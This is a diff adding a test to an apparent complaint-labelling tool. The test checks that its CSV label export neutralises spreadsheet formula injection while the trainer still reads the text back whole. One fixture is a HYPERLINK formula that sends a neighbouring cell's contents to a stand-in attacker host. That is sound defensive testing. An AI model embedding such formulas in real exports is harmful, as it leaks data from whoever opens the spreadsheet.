@@ -39,3 +39,30 @@ def test_export_labels_writes_the_newest_label_per_mention_for_train(tmp_path, c
     examples = sorted(load_extra_labels(out), key=lambda e: e.label)
     assert [(e.label, e.severity) for e in examples] == [(0, 0), (1, 3)]
     assert "charged me twice" in examples[1].text and "Bill" in examples[1].text
+
+
+def test_a_text_a_spreadsheet_would_run_is_protected_in_the_csv_and_read_back_whole(tmp_path, cfg):
+    """The lead opens the export in a spreadsheet; the trainer reads the same file back. Both must hold."""
+    from classifier.data import load_extra_labels
+    from desk.db import connect
+
+    store = connect(cfg.database_url())
+    texts = ['=HYPERLINK("https://evil.example/?x="&A2,"refund")', "-1 stars, Northwind", "@Northwind help"]
+    posts = [Mention(platform="demo", source="demo", external_id=f"f{i}", url="", author="a", body=t, posted_at=T0)
+             for i, t in enumerate(texts)]
+    store_poll(store, "demo", "demo", PollResult(posts, None), now=T0)
+    with store.session() as s:
+        for m in s.query(MentionRow):
+            s.add(Label(mention_id=m.id, is_complaint=True, severity=2, author="sam", created_at=T0))
+    store.close()
+    out = tmp_path / "labels.csv"
+    run = subprocess.run([sys.executable, "-m", "desk.cli", "export-labels", "--config", str(cfg.path), "--out", str(out)],
+                         capture_output=True, text=True, cwd=ROOT)
+    assert run.returncode == 0, run.stderr
+    import csv
+
+    with out.open(newline="", encoding="utf-8") as fh:
+        cells = [row["text"] for row in csv.DictReader(fh)]
+    assert len(cells) == 3 and all(c.startswith("'") for c in cells), cells
+    read = [e.text for e in load_extra_labels(out)]
+    assert [r[:1] for r in read] == ["=", "-", "@"], read
